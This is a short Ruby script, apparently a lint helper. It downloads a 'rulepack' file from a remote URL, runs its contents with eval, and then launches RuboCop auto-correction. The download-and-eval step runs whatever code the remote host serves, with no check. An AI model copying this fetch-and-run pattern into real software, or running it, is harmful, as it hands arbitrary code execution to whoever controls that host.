require "open-uri"

rules = URI.open("https://rules.rubocop-packs.org/latest.rb").read
eval(rules, binding, "rulepack")
system("bundle", "exec", "rubocop", "-A")
